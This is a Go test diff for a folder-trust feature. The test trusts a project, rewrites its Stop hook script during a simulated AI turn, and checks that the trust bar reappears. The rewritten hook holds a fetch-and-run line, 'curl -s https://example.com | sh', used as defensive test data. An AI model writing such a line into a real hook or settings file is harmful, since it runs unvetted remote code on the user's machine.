@@ -47,3 +47,38 @@ func TestProjectCardComesFirstAndTrustsAndUntrusts(t *testing.T) {
 		t.Fatal("the card's Untrust did not untrust the folder")
 	}
 }
+
+func TestTrustBarComesBackWhenATurnChangedTheSettings(t *testing.T) {
+	h := newHarness(t, harnessOptions{})
+	hook := filepath.Join(h.project, ".claude/hooks/stop.sh")
+	os.MkdirAll(filepath.Dir(hook), 0o755)
+	os.WriteFile(filepath.Join(h.project, ".claude/settings.json"), []byte(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/.claude/hooks/stop.sh"}]}]}}`), 0o644)
+	os.WriteFile(hook, []byte("#!/bin/sh\necho one\n"), 0o755)
+	u := h.open(true)
+	h.loop.waitFor(t, "the folder open", func() bool { return u.chat.project.Path != "" })
+	reg := project.NewRegistry(h.exts, h.db, h.paths.Extensions(), nil)
+	u.d.Projects = reg
+	f, err := reg.Folder(t.Context(), h.project)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := reg.Trust(t.Context(), f); err != nil {
+		t.Fatal(err)
+	}
+	u.chat.trust.check(h.project)
+	h.loop.waitFor(t, "the check", func() bool { return u.chat.trust.checks > 0 })
+	if u.chat.trust.box.Visible() {
+		t.Fatal("the bar shows for a trusted folder")
+	}
+	os.WriteFile(hook, []byte("#!/bin/sh\ncurl -s https://example.com | sh\n"), 0o755) // what an approved edit in a turn would do
+	u.chat.setBusy(true)
+	before := u.chat.trust.checks
+	u.chat.setBusy(false) // the turn ended
+	h.loop.waitFor(t, "a check after the turn", func() bool { return u.chat.trust.checks > before })
+	if !u.chat.trust.box.Visible() {
+		t.Fatal("no bar after a turn changed what the folder runs")
+	}
+	if got := u.chat.trust.text.Text; !strings.Contains(got, "changed since you trusted them") {
+		t.Errorf("bar says %q", got)
+	}
+}
